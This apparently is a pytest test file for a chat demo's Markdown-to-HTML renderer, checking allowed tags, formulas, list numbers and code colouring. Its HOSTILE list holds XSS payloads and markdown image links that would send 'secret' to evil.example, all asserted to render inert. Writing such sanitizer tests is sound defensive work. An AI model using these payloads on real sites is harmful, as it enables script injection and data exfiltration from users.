"""A model's Markdown as HTML that is ours: values only, the bad ones first."""

import html
import re
import time
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from internvl_demo import web
from internvl_demo.grounding.parser import Box, Event, Phrase, Text
from internvl_demo.web.markup import render_answer
from internvl_demo.web.markup.code import _LANGUAGES, colour
from internvl_demo.web.markup.formulas import _ELEMENTS

TAGS: dict[str, set[str]] = {
    **dict.fromkeys(
        ("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "strong", "em", "s", "pre", "br", "hr"), set()
    ),
    **dict.fromkeys(("blockquote", "table", "thead", "tbody", "tr"), set()),
    **dict.fromkeys(("th", "td"), {"align"}),
    **dict.fromkeys(("div", "code"), {"class"}),
    "ol": {"start"},
    "li": {"value"},
    "a": {"href", "target", "rel"},
    "span": {"class", "data-phrase", "data-boxes"},
    **{tag: set(attributes) for tag, attributes in _ELEMENTS.items()},
}
"""All that may come out."""
VALUES = {
    "class": r"wide|formula|ground-phrase|tok-[ckfsm]|language-[a-z0-9_+#-]{1,30}",
    "href": r"(?i:https?://|mailto:).+",
    "target": "_blank",
    "rel": "noopener noreferrer",
    "align": "left|center|right",
    "start": r"\d{1,9}",
    "value": r"\d{1,9}",
    "data-phrase": r"\d+",
    "data-boxes": r"\d+(,\d+)*",
}
BLOCKS = {"p", "ul", "ol", "li", "blockquote", "pre", "div", "table", "hr", *(f"h{n}" for n in range(1, 7))}
ONLY_TEXT_IN = {"p", "a", "span", "em", "strong", "s", "code", *(f"h{n}" for n in range(1, 7))}


class Page(HTMLParser):
    """Reads HTML and refuses what is not ours, not closed, or not where a browser would leave it."""

    def __init__(self, content: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.seen: list[str] = []
        self.text: list[str] = []
        self.addresses: list[str] = []
        self.feed(content)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS and {name for name, _ in attrs} <= TAGS[tag], (tag, attrs)
        for name, value in attrs:
            assert re.fullmatch(VALUES.get(name, r"[\w. -]*"), value or "", re.DOTALL), (tag, name, value)
        assert tag not in BLOCKS or not ONLY_TEXT_IN & set(self.open), (tag, self.open)
        assert tag != "a" or "a" not in self.open
        self.seen.append(tag)
        self.addresses += [value or "" for name, value in attrs if name == "href"]
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def shown(*events: Event | str) -> str:
    """The HTML of an answer; box `n` has index `n`."""
    return "".join(render_answer(Text(event) if isinstance(event, str) else event for event in events))


def boxed(text: str) -> Sequence[Event]:
    return Phrase(text), Box(" ".join(text.split()), (0, 0, 9, 9))


HOSTILE = [
    "<script>x</script>",
    "See ``` <img src=https://evil.example/x>",
    r"\`<img src=x onerror=alert(1)>`",
    "``` `` ` `` <b>hi</b> ",
    "`$` $ <img src=x> `",
    "```\n$\n```\n<img src=x>\n```\n$\n```",
    "~~~ ```\n~~~\n<img src=x>",
    "    code\n\n<img src=x>",
    "- ```\n<img src=x>\n```",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    "[a [b](http://b.example) c](http://c.example) [<http://a.example>](http://b.example)",
    "$<img src=x>$ \\(<img src=x>\\) \\[<img src=x>\\]",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{wide}{x}$ $\text{<img src=x>}$",
    r"$\unicode{x3c}img src=x\unicode{x3e}$ $\text{&lt;img src=x&gt;}$ $\text{&#xDFFF;}$",
    r"$\rule{99999em}{99999em}$ $\hspace{-99em}x$ $\llap{over}$ $\raise99em x$ $\color{white}{x}$",
    r"$\def\a{\b\b}\def\b{\a\a}\a$",
    "<!-- --><img src=x><!-- -->",
    "&lt;img src=x&gt; &#60;img src=x&#62; &#xfdd0;",
    "| a |\n|---|\n| `<img src=x> |\n",
    '```"><img src=x>\ncode',
    "```mermaid\ngraph TD\nA-->B\n```",
    "```html\n<img src=x onerror='alert(1)'>\n```",
    "\ufdd0\ufde0<img src=x>\ufdd1 \ufdd2 \ud800 \0",
]


@pytest.mark.parametrize("said", HOSTILE)
def test_no_markup_of_a_model_is_live(said: str) -> None:
    page = Page(shown(said))
    assert not {"img", "script", "b"} & set(page.seen)
    shown(said).encode()


WORDS = (
    "`` ``` ~~~ $$ \\( \\) \\[ \\] [x] (http://a) ![ ](javascript:x) <b> <img/src=x> <!-- --> &lt; &#60; html"
)
PIECES = st.sampled_from(
    [
        *"`$\\|*_<a1 \t\n\"'~#\r\0\ufdd0\ufdd1\ud800&;😀",
        *WORDS.split(),
        *(
            "\n\n",
            "    ",
            "- ",
            "> ",
            "# ",
            "1. ",
            "7) ",
            "|---|\n",
            "| a | b |\n|---|---|\n",
            "[x](http://a) ",
        ),
        *(r"$\frac{1}{2}$", r"\text{", "\\begin{align}", "<http://a.example>", "```python\n", "](", "---\n"),
    ]
)
NASTY = st.lists(PIECES, max_size=25).map("".join)
ANSWERS = st.lists(
    st.one_of(NASTY.map(lambda text: (Text(text),)), NASTY.filter(str.strip).map(boxed)), max_size=6
).map(lambda parts: [event for part in parts for event in part])


@given(ANSWERS)
def test_only_our_tags_come_out(events: list[Event]) -> None:
    content = shown(*events)
    Page(content)
    content.encode()
    assert not re.search("[\0\ufdd0-\ufdef]", content)


DIGITS = st.lists(
    st.sampled_from(
        [
            *"0123456789 \n\t`$*_~|#<>()[]-+=:a%",
            *(
                "\\",
                "**",
                "- ",
                "\n\n",
                "> ",
                "1. ",
                "9. ",
                "| 1 | 2 |\n|--|--|\n",
                "    ",
                "$$",
                "```",
                "\\(",
                "\\)",
            ),
            *(r"\frac{1}{2}", "^2", "x_1", "{", "}", r"\\[4pt]", r"\text{ 5%}", "[6](http://a.example/7)"),
        ]
    ),
    max_size=30,
).map("".join)


def digits_of_the_page(content: str) -> list[str]:
    """Digits that a reader sees or can reach: of texts, list numbers, addresses and languages."""
    page = Page(content)
    languages = re.findall(r'class="language-([^"]*)"', content)
    return sorted(filter(str.isdigit, "".join([*page.text, *page.addresses, *languages])))


@given(DIGITS)
def test_digits_are_never_lost_or_changed(said: str) -> None:
    fences = re.sub(r"(`{3,}|~{3,})[^\n]*", r"\1", said)  # what stands behind a fence is not shown
    numbered = re.sub(r"(?m)^[ \t>\-+*\d.)]*?\b(\d{1,9})[.)](?=[ \t\n]|\Z)", "", fences)
    wanted, got = sorted(filter(str.isdigit, numbered)), digits_of_the_page(shown(fences))
    for digit in set(wanted):
        assert got.count(digit) >= wanted.count(digit), (digit, shown(fences))


@pytest.mark.parametrize(
    ("said", "html"),
    [
        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("0. a\n1. b", '<ol start="0"><li>a</li><li>b</li></ol>'),
        ("1. a\n3. b\n4. c", '<ol><li>a</li><li value="3">b</li><li>c</li></ol>'),
        ("1. a\n   - b\n1. c", '<ol><li>a<ul><li>b</li></ul></li><li value="1">c</li></ol>'),
        ("1986. A year.", '<ol start="1986"><li>A year.</li></ol>'),
    ],
)
def test_lists_keep_their_numbers(said: str, html: str) -> None:
    assert shown(said) == html


def test_deep_nesting_loses_no_text() -> None:
    for marker in ("- ", "> ", "1. ", "> - "):
        page = Page(shown(marker * 60 + "deep 5\n\nThe **rest** 6."))
        assert "deep 5" in "".join(page.text) and "strong" in page.seen


def test_brackets_without_end_are_text() -> None:
    for said in ("[" * 60 + "]()", "[" * 60 + "a" + "](http://a.example)" * 60, "*" * 500, "`" * 501):
        assert Page(shown(said)).text


@pytest.mark.parametrize(
    ("said", "html"),
    [
        ("a < b and **bold**", "<p>a &lt; b and <strong>bold</strong></p>"),
        ("`a < b` and <b>", "<p><code>a &lt; b</code> and &lt;b&gt;</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("a *b* ~~c~~ \\* &amp;", "<p>a <em>b</em> <s>c</s> * &amp;</p>"),
        ("# A\n\nB\n===", "<h1>A</h1><h1>B</h1>"),
        ("> a\n\n---", "<blockquote><p>a</p></blockquote><hr>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
        ("```\nif a < b:\n\tpass\n```", "<pre><code>if a &lt; b:\n\tpass\n</code></pre>"),
        ("```mermaid\nA-->B\n```", '<pre><code class="language-mermaid">A--&gt;B\n</code></pre>'),
        ("````\n```\n````\nend", "<pre><code>```\n</code></pre><p>end</p>"),
        ("```\nif a <", "<pre><code>if a &lt;</code></pre>"),
        ("it is $5 and $6", "<p>it is $5 and $6</p>"),
        ("`$` and `$`", "<p><code>$</code> and <code>$</code></p>"),
        (r"\\(a\\)", r"<p>\(a\)</p>"),
        ("\\[ not yet", "<p>[ not yet</p>"),
        ("[y]: http://a.example", "<p>[y]: http://a.example</p>"),
        ("[x]() [x](/a) [x](//a.example)", "<p>x [x](/a) [x](//a.example)</p>"),
        ("a\u2028b", "<p>a\u2028b</p>"),
    ],
)
def test_markdown_becomes_html(said: str, html: str) -> None:
    assert shown(said) == html


def test_links_open_tabs_and_images_are_links() -> None:
    link = ' target="_blank" rel="noopener noreferrer">'
    assert html.unescape(
        shown("[a](https://a.example/?b=c&d) ![e](http://f.example) <mailto:g@h.example>")
    ) == (
        f'<p><a href="https://a.example/?b=c&d"{link}a</a> !<a href="http://f.example"{link}e</a>'
        f' <a href="mailto:g@h.example"{link}mailto:g@h.example</a></p>'
    )


def test_tables_keep_every_cell_in_a_wide_place() -> None:
    assert shown("| a | b |\n|:-:|--:|\n| 1 | 2 | 3 |\n| 4 \\| 5 |\n\nend") == (
        '<div class="wide"><table><thead><tr><th align="center">a</th><th align="right">b</th></tr></thead><tbody>'
        '<tr><td align="center">1</td><td align="right">2</td><td>3</td></tr>'
        '<tr><td align="center">4 | 5</td></tr></tbody></table></div><p>end</p>'
    )
    assert shown("a | b\n- | -") == "<p>a | b</p><ul><li>| -</li></ul>", "no table: a list"


MATH = "<math"


@pytest.mark.parametrize(
    "said",
    ["$x_1$", r"\(x_1\)", r"\[x_1\]", "$$x_1$$", "\\[\nx_1\n\\]", "$$\nx_1\n$$", "> \\[\n> x_1\n> \\]"],
)
def test_formulas_are_read_however_written(said: str) -> None:
    content = shown(f"So\n{said}\nand on.")
    assert "<msub><mi>x</mi><mn>1</mn></msub>" in content
    assert ('display="block"' in content) == ("$$" in said or "\\[" in said)
    assert ('class="wide"' in content) == ('display="block"' in content)


def test_display_formulas_hold_no_blocks() -> None:
    content = shown("so\n\\[\nx\n- y\n# z\n\\]\nend")
    assert content.startswith('<p>so</p><div class="wide"><math display="block">') and content.endswith(
        "<p>end</p>"
    )
    assert shown("- \\[\n  x\n  \\]\n\nend").endswith("</math></div></li></ul><p>end</p>")


@pytest.mark.parametrize(
    ("source", "texts"),
    [
        (r"\frac{1}{2}", ["1", "2"]),
        (r"a < b", ["a", "<", "b"]),
        (r"50\% \text{ of } 10", ["50", "%", "\xa0of\xa0", "10"]),
        ("50% of 10", ["50", "%", "o", "f", "10"]),
        (r"\begin{align} x &= 1 \\ y &= 2 \end{align}", ["x", "=", "1", "y", "=", "2"]),
        (r"x \\[4pt] y", ["x", "y"]),
        (r"\text{面积} = 5", ["面积", "=", "5"]),
    ],
)
def test_formulas_show_what_was_written(source: str, texts: list[str]) -> None:
    content = shown(rf"\[{source}\]")
    assert MATH in content and Page(content).text == texts


@pytest.mark.parametrize(
    "source",
    [
        r"\ce{H2O}",
        r"\frac{1}{2",
        r"\begin{matrix} 1",
        r"\newcommand{\a}{5}\a",
        r"\text{&#49;}",
        "{" * 900 + "}" * 900,
        "x^2^3",
        r"\sqrt[\foo]{3}",
    ],
)
def test_unreadable_formulas_show_their_source(source: str) -> None:
    assert html.unescape(shown(rf"\({source}\)")) == f'<p><code class="formula">{source}</code></p>'


def test_long_formulas_are_no_formulas() -> None:
    assert MATH in shown(f"${'x' * 1000}$") and MATH not in shown(f"${'x' * 1001}$")
    assert MATH in shown(f"$${'x' * 4000}$$") and MATH not in shown(f"$${'x' * 4001}$$")
    content = shown("$x$ " * 201)
    assert content.count(MATH) == 200 and content.count('<code class="formula">x</code>') == 1


@given(
    st.sampled_from(sorted(_LANGUAGES)), st.text(st.sampled_from("a1_ \n\"'`/*#-<>!=&(@.:\\{}é"), max_size=60)
)
def test_coloured_code_is_the_same_code(language: str, code: str) -> None:
    coloured = colour(code, language)
    assert coloured is not None and "".join(Page(coloured).text) == code


@pytest.mark.parametrize(
    ("language", "code", "html"),
    [
        ("python", "def f(x): # y", '<span class="tok-k">def</span> <span class="tok-f">f</span>(x): '
         '<span class="tok-c"># y</span>'),
        ("PYTHON", "1", '<span class="tok-m">1</span>'),
        ("js", "`a\nb`", '<span class="tok-s">`a\nb`</span>'),
        ("json", '{"a": true}', '{<span class="tok-f">&quot;a&quot;</span>: <span class="tok-k">true</span>}'),
        ("html", "<a b='c'>", '<span class="tok-k">&lt;a</span> <span class="tok-f">b</span>='
         '<span class="tok-s">&#x27;c&#x27;</span><span class="tok-k">&gt;</span>'),
        ("brainfuck", "+1", "+1"),
    ],
)  # fmt: skip
def test_code_has_colours(language: str, code: str, html: str) -> None:
    assert shown(f"```{language}\n{code}\n```") == (
        f'<pre><code class="language-{language.lower()}">{html}\n</code></pre>'
    )


def test_long_code_stays_plain() -> None:
    assert colour("1" * 8_000, "python") and not colour("1" * 8_001, "python")


@pytest.mark.parametrize(
    "piece", ["\n", "\n ", '"', "'''", "/*", "a:", "<a", "<!--", "//", "\\", "- a:", "a=", "&#"]
)
def test_colouring_takes_linear_time(piece: str) -> None:
    def seconds(chars: int) -> float:
        runs = []
        for _ in range(3):
            start = time.process_time()
            for parts in _LANGUAGES.values():
                list(parts.finditer(piece * (chars // len(piece))))
            runs.append(time.process_time() - start)
        return min(runs)

    assert seconds(32_000) < 9 * seconds(8_000) + 0.02, "four times the code; squared it were sixteen times"


def test_code_colours_can_be_read() -> None:
    css = (Path(web.__file__).parent / "widgets" / "conversation" / "code.css").read_text()
    themes = re.findall(r"conversation \{([^}]*--tok-[^}]*)\}", css)
    for theme, ground in zip(themes, ("#e2e8f0", "#334155"), strict=True):  # no code stands on less contrast
        colours = re.findall(r"--tok-(\w): (#\w{6})", theme)
        assert {name for name, _ in colours} == set("ckfsm")
        for name, value in colours:
            assert contrast(value, ground) >= 4.5, (name, value)


def contrast(first: str, second: str) -> float:
    """As WCAG defines it."""

    def light(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((light(first), light(second)), reverse=True)
    return (high + 0.05) / (low + 0.05)
